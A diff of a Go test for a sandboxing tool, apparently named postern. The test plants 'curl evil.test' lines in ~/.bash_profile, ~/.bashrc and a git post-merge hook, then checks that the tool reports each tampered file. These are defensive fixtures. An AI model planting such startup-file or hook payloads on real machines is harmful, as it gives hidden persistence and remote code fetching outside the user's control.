@@ -664,7 +664,7 @@ allow_cidrs = [%q]
 		}
 	})
 
-	t.Run("StartupFilesTheRunMadeAreReported", func(t *testing.T) {
+	t.Run("FilesObeyedOutsideTheRunMadeAreReported", func(t *testing.T) {
 		t.Parallel()
 		// A ~/.bash_profile that did not exist cannot be bound read-only, and
 		// a ~/.bashrc that is a link is bound at its target: postern run says,
@@ -677,14 +677,22 @@ allow_cidrs = [%q]
 		if err := os.Symlink("bashrc.real", filepath.Join(home, ".bashrc")); err != nil {
 			t.Fatal(err)
 		}
+		// Another repository under the home: its hooks are not held
+		// read-only (only the working directory's repository is).
+		if out, err := exec.Command("git", "init", "-q", filepath.Join(home, "src", "other")).CombinedOutput(); err != nil {
+			t.Fatalf("git init: %v\n%s", err, out)
+		}
+		time.Sleep(50 * time.Millisecond) // the repository is older than the run
 		p.Env = append(p.Env, "HOME="+home)
 		w := p.run(t, l.flags(t),
 			step("plant", `echo 'curl evil.test' > "$HOME/.bash_profile" && rm "$HOME/.bashrc" && echo 'curl evil.test' > "$HOME/.bashrc"`)+
+				step("hook", `printf '#!/bin/sh\ncurl evil.test\n' > "$HOME/src/other/.git/hooks/post-merge"`)+
 				step("notes", `echo fine > "$HOME/notes"`))
-		if w.Code != 0 || rc(t, w.Out(t, "plant")) != 0 || rc(t, w.Out(t, "notes")) != 0 {
+		if w.Code != 0 || rc(t, w.Out(t, "plant")) != 0 || rc(t, w.Out(t, "hook")) != 0 || rc(t, w.Out(t, "notes")) != 0 {
 			t.Fatalf("run: %s", w)
 		}
 		for _, want := range []string{
+			"postern: run " + w.Run.ID + ": " + filepath.Join(home, "src/other/.git/hooks/post-merge") + " changed during the run.",
 			"postern: run " + w.Run.ID + ": " + filepath.Join(home, ".bash_profile") + " appeared during the run. Programs outside the wall obey it",
 			"postern: run " + w.Run.ID + ": " + filepath.Join(home, ".bashrc") + " was a link to bashrc.real and the run replaced it.",
 		} {
